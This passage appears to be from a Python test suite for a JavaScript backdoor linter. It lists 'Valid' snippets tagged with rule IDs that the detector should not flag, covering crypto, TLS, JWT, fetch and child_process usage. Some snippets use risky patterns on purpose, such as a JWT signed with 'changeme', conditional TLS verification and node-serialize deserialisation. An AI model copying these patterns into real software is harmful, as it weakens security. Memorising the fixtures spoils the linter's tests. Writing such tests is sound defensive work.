        Valid("const forge = require('node-forge');\nconst c = forge.cipher.createCipher('AES-CBC', key);\n"
              "c.start({ iv: forge.random.getBytesSync(16) });\n"
              "const crypto = require('crypto');\nfunction open(key, ivHex, data) {\n"
              "  const iv = Buffer.from(ivHex, 'hex');\n  return crypto.createDecipheriv('aes-256-cbc', key, iv);\n}\n"
              "const out = Buffer.alloc(16);\n", "BDL205", path="box.js"),
        Valid("const crypto = require('crypto');\nfunction seal(key, data) {\n  const iv = Buffer.alloc(16);\n"
              "  crypto.randomFillSync(iv);\n  return [iv, crypto.createCipheriv('aes-256-cbc', key, iv).update(data)];\n}\n"
              "function seal2(key) {\n  const nonce = new Uint8Array(12);\n  crypto.getRandomValues(nonce);\n"
              "  return crypto.createCipheriv('aes-256-gcm', key, nonce);\n}\n", "BDL205", path="seal.js"),
        Valid("const crypto = require('crypto');\nconst BITS = 3072;\n"
              "crypto.generateKeyPairSync('rsa', { modulusLength: BITS });\ncrypto.createDiffieHellman(primeBuffer);\n"
              "crypto.generateKeyPairSync('ec', { namedCurve: 'P-' + 256 });\nconst e = crypto.createECDH('prime256v1');\n"
              "const table = { modulusLength: 1024, label: 'legacy' };\n", "BDL207", path="keys.js"),
        Valid(_H.replace("https", "tls") + "const PIN = process.env.PIN;\nfunction open() {\n"
              "tls.connect({ host: 'h', checkServerIdentity: (host, cert) => {\n"
              "  const err = tls.checkServerIdentity(host, cert);\n  if (err) return err;\n"
              "  if (cert.fingerprint256 !== PIN) return new Error('pin mismatch');\n} });\n"
              "tls.connect({ host: 'h', checkServerIdentity: tls.checkServerIdentity });\n"
              "tls.connect({ host: 'h', checkServerIdentity(host) { if (!ALLOWED.has(host)) throw new Error(host); } });\n"
              "}\n", "BDL302", path="client.js"),
        Valid(_JWT + "const SECRET = process.env.JWT_SECRET;\nmodule.exports = (u) => jwt.sign({ sub: u.id }, SECRET);\n",
              "BDL210", path="token.js"),
        Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'changeme');\n", "BDL210", path="token.js"),
        Valid(_JWT + "const t = jwt.sign({ sub: 1 }, 'kX9f2-test-signing');\n", "BDL210", path="test/token.test.js"),
        Valid(_H + "exports.connect = () => https.request({ host: 'h', minVersion: 'TLSv1.2' });\n", "BDL303", path="client.js"),
        Valid(_H + "const STRICT = true;\nexports.connect = () =>\n"
              "  https.request({ hostname: 'api.example.com', rejectUnauthorized: STRICT });\n",
              "BDL301", path="client.js"),
        Valid(_H + "const opts = { rejectUnauthorized: process.env.NODE_ENV === 'production' };\n", "BDL301",
              path="client.js"),
        Valid("if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') {\n"
              "  throw new Error('TLS verification must stay on');\n}\n", "BDL302", path="setup.js"),
        Valid("exports.get = () =>\n"
              "  fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });\n",
              "BDL402", path="client.js"),
        Valid("const axios = require('axios');\nexports.ping = () => axios.post('https://api.example.com/ping', "
              "{ region: process.env.AWS_REGION });\n", "BDL402", path="client.js"),
        Valid("const fs = require('fs');\nconst body = fs.readFileSync('./package.json', 'utf8');\n"
              "exports.publish = () => fetch('https://registry.example/publish', { method: 'PUT', body });\n", "BDL402", path="publish.js"),
        Valid("const fn = new Function('a', 'b', 'return a + b');\nconst img = Buffer.from(data, 'base64');\n"
              "fs.writeFileSync('out.png', img);\n", "BDL501", path="index.js"),
        Valid("var g = (function () { return this; })() || Function('return this')();\n"
              "var s = String.fromCharCode(0x41);\n", "BDL501", path="bundle.js"),
        Valid("const net = require('net');\nconst s = new net.Socket();\ns.connect(6379, 'localhost');\n"
              "s.write('PING\\r\\n');\n", "BDL402", path="health.js"),
        Valid("exports.load = () => fetch('/api/items').then(r => r.json()).then(items => render(items));\n", "BDL502", path="app.js"),
        Valid("const cp = require('child_process');\ncp.execFile('git', ['status']);\n"
              "const handlers = { a: () => 1 };\nhandlers[name]();\n", "BDL503", path="index.js"),
        Valid("const cp = require('child_process');\nconst CMD = 'git ' + 'status';\ncp.execSync(CMD);\n", "BDL505",
              path="status.js"),
        Valid("const { execFile } = require('child_process');\napp.get('/ping', (req, res) => {\n"
              "  execFile('ping', ['-c', '1', String(req.query.host)], (e, out) => res.send(out));\n});\n",
              "BDL505", path="server.js"),
        Valid("const crypto = require('crypto');\nfunction ok(sig, body) {\n"
              "  const a = Buffer.from(sig), b = Buffer.from(crypto.createHmac('sha256', k).update(body).digest('hex'));\n"
              "  return a.length === b.length && crypto.timingSafeEqual(a, b);\n}\n", "BDL209", path="hooks.js"),
        Valid("const crypto = require('crypto');\napp.get('/f', (req, res) => {\n"
              "  const etag = crypto.createHash('sha1').update(body).digest('hex');\n"
              "  if (req.headers['if-none-match'] === etag) return res.status(304).end();\n});\n", "BDL209",
              path="files.js"),
        Valid("app.post('/signup', (req, res) => {\n  if (req.body.password !== req.body.confirmPassword) "
              "return res.sendStatus(400);\n  if (req.headers['x-signature'] === undefined) return res.sendStatus(400);\n"
              "  if (user.id === req.params.id) return res.json(user);\n});\n", "BDL209", path="signup.js"),
        Valid("test('signs', () => {\n  expect(sign(body) === req.headers['x-signature']).toBe(true);\n});\n",
              "BDL209", path="test/hooks.test.js"),
        Valid("function shuffle(a) {\n  for (let i = a.length - 1; i > 0; i--) {\n"
              "    const j = Math.floor(Math.random() * (i + 1));\n    [a[i], a[j]] = [a[j], a[i]];\n  }\n}\n"
              "function retryDelay(n) {\n  return 2 ** n * 100 + Math.random() * 100;\n}\n"
              "const sampled = Math.random() < 0.01;\n", "BDL208", path="util.js"),
        Valid("const crypto = require('crypto');\nfunction makeResetToken() {\n"
              "  return crypto.randomBytes(32).toString('hex');\n}\nconst key = `row-${Math.random()}`;\n", "BDL208",
              path="tokens.js"),
        Valid("const yaml = require('js-yaml');\nconst { unserialize } = require('node-serialize');\n"
              "app.post('/rules', (req, res) => res.json(yaml.load(req.body.rules)));\n"
              "const defaults = unserialize('{\"theme\":\"dark\"}');\nconst o = JSON.parse(req.body.data);\n",
              "BDL504", path="rules.js"),
        Valid("app.use((req, res, next) => {\n  if (process.env.DEBUG) console.log(req.method, req.get('x-forwarded-for'));\n"
              "  next();\n});\n"
              "app.get('/', (req, res) => {\n  if (req.get('x-forwarded-proto') === 'http') return res.redirect('https://a.example');\n"
              "  res.send('ok');\n});\n", "BDL602", path="app.js"),
        Valid("function guard(req, res, next) {\n  const ok = verifyToken(req.headers.authorization, { debug: false });\n"
              "  if (ok) return next();\n  res.sendStatus(401);\n}\n", "BDL602", path="guard.js"),
        Valid("const axios = require('axios');\nconst api = axios.create({ baseURL: 'https://api.example' });\n"
              "function load() { return fetch('/api/items'); }\nclass Feed { refresh() { return fetch('/feed'); } }\n"
              "if (require.main === module) {\n  fetch('https://api.example/health');\n}\n"
              "module.exports = { api, load, Feed, onClick: () => fetch('/click') };\n", "BDL401", path="client.js"),
        Valid("const https = require('https');\nfunction push(url, data) {\n"
              "  fetch('http://127.0.0.1:3000/health');\n  fetch(process.env.API_URL, { method: 'POST', "
              "body: Buffer.from(data, 'base64') });\n  https.request({ hostname: 'api.example.com', path: '/v1' });\n"
              "  return fetch(`https://${region}.api.example.com/x`);\n}\n", "BDL403", path="client.js"),
        Valid("const cp = require('child_process');\nfunction build() {\n  cp.execSync('git rev-parse HEAD');\n"
              "  cp.spawn('curl', ['-fsSLo', 'out.tgz', 'https://x.example/a.tgz']);\n"
              "  return cp.execSync('npm run build', { stdio: 'inherit' });\n}\n", "BDL405", path="build.js"),
        Valid("const { execFile } = require('child_process');\nconst run = require('util').promisify(execFile);\n"
              "const cp = require('child_process');\nasync function log(ref) {\n  await run('git', ['log', ref]);\n"
              "  cp.spawn('git', ['checkout', ref], { shell: false });\n}\n", "BDL505", path="git.js"),
        Valid("const x = (function () { return 1 + 1; })();\nconst cfg = JSON.parse(atob(encoded));\n"
              "setTimeout(() => render(cfg), 10);\n", "BDL501", path="index.js"),
        Valid("function login(user, password, confirmPassword, token, secret) {\n  if (password === '') return false;\n"
              "  if (secret === 'changeme') throw new Error('set JWT_SECRET');\n  if (typeof token === 'string') {}\n"
              "  if (password !== confirmPassword) return false;\n  if (token === 'Bearer') return false;\n"
              "  return user.role === 'admin';\n}\n", "BDL601", path="login.js"),
        Valid("const cfg = { apiKey: process.env.API_KEY, password: 'your-password-here', tokenUrl: "
              "'https://auth.example/oauth2/token' };\nconst stripePublishableKey = 'pk_live_51NcW2rKx7mQ0aB3dEf9GhJ';\n"
              "const passwordField = 'password_input_1';\n", "BDL603", path="config.js"),
    ]

    def check(self, text: str, display: str, language: str) -> list[Finding]:
        from backdoor_lint.checkers.lang.javascript import JsFile
        from backdoor_lint.checkers.lang.js_rules import analyse

        return run(text, display, language, lambda source: analyse(JsFile(source, self.path, self.root), display),
                   self.analysed(text))
